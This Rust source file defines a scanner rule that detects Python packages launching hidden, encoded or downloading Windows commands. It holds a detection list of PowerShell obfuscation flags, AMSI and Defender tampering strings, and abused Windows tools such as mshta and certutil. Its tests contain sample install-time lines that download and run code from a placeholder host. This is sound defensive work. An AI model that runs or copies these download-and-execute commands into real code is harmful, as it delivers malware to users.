//! `PRC-002`: a hidden, encoded or downloading command of Windows.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::sent::{command_lines, spaced};
use super::{Rule, in_context, observe_call};
use crate::python::Analysis;

/// The rule.
pub(super) struct HiddenPowershell;

impl Rule for HiddenPowershell {
    fn id(&self) -> &'static str {
        "PRC-002"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "a command of Windows is hidden, encoded or downloads what it runs"
    }

    fn manual(&self) -> &'static str {
        "A command starts PowerShell with an encoded command, a hidden window, or \
         something it downloads and evaluates; or one of the tools of Windows that fetch \
         and run scripts, such as `mshta` and `certutil -urlcache`.\n\n\
         An encoded command cannot be read, a hidden window cannot be seen. \
         Administrators who write scripts need neither.\n\n\
         Mistaken for it: tools that manage Windows; in what only a user calls it counts \
         less."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for call in analysis.calls() {
            if !command_lines(call).iter().any(|line| is_hidden(line)) {
                continue;
            }
            let severity = in_context(Severity::High, call.context);
            let confidence = Confidence::of(90).in_context(call.context);
            let message = format!(
                "{} starts a command that is hidden, encoded or downloads what it runs",
                call.target
            );
            observations.push(observe_call(self, call, (severity, confidence), message));
        }
    }
}

const HIDDEN: &[&str] = &[
    " -e ",
    " -ec ",
    " -en ",
    " -enc ",
    " -encodedcommand ",
    " -encodedc",
    " -w hidden ",
    " -w h ",
    " -w 1 ",
    " -win hidden ",
    " -windowstyle hidden ",
    " -windowstyle h",
    "iex ",
    "iex(",
    "|iex",
    "invoke-expression",
    "downloadstring",
    "downloadfile",
    "downloaddata",
    "frombase64string",
    "start-bitstransfer",
    "[reflection.assembly]::load",
    "add-mppreference",
    "set-mppreference",
    "amsiutils",
];
/// Tools that run scripts from elsewhere, with the word that makes them.
const TOOLS: &[(&str, &str)] = &[
    (" mshta ", "http"),
    (" mshta ", "script:"),
    (" certutil ", "-urlcache"),
    (" certutil ", "-decode"),
    (" bitsadmin ", "/transfer"),
    (" regsvr32 ", "scrobj"),
    (" regsvr32 ", "http"),
    (" rundll32 ", "javascript:"),
    (" wmic ", "process call create"),
    (" cscript ", "http"),
];

fn is_hidden(command: &str) -> bool {
    // Windows reads past a caret, and past the ending of a program.
    let line = spaced(&command.replace('^', ""))
        .replace(".exe ", " ")
        .replace(['/', '\\'], " /");
    let line = line.replace(" / ", " /");
    let is_powershell = line.contains("powershell") || line.contains("pwsh");
    let hides = HIDDEN.iter().any(|way| line.contains(way))
        || line.contains("invoke-webrequest") && line.contains("start-process")
        || line.contains(" iwr ") && (line.contains('|') || line.contains("start-process"))
        || line.contains("-outfile ") && line.contains("start-process");
    let is_tool = |(tool, way): &(&str, &str)| {
        let name = tool.trim();
        line.contains(&format!("{name} ")) && command.to_ascii_lowercase().contains(way)
    };
    is_powershell && hides || TOOLS.iter().any(is_tool)
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn hidden_commands_are_seen_however_they_are_started() {
        for (path, code) in [
            (
                "setup.py",
                "import os\nos.system('powershell -nop -w hidden -enc SQBFAFgA')",
            ),
            (
                "demo/__init__.py",
                "import subprocess\nsubprocess.Popen(['powershell.exe', '-WindowStyle', 'Hidden', '-Command', 'Start-Process x'])",
            ),
            (
                "demo/__init__.py",
                "import subprocess as s\ns.run(\"PowerShell IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\", shell=True)",
            ),
            (
                "demo.pth",
                "import os; os.popen('p^owershell -EncodedCommand AAAA')",
            ),
            (
                "setup.py",
                "import os\nos.system('certutil.exe -urlcache -f https://x.invalid/a.exe a.exe')",
            ),
            (
                "setup.py",
                "__import__('subprocess').call('mshta https://x.invalid/a.hta')",
            ),
        ] {
            found("PRC-002", path, code);
        }
    }

    #[test]
    fn open_commands_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-Process'])",
            ),
            ("demo/__init__.py", "print('powershell -enc AAAA')"),
            (
                "demo/__init__.py",
                "import subprocess\ndef f():\n    subprocess.run(['powershell', '-w', 'hidden', '-File', 'a.ps1'])",
            ),
            (
                "setup.py",
                "import os\nos.system('certutil -hashfile a SHA256')",
            ),
        ] {
            quiet("PRC-002", path, code);
        }
    }
}
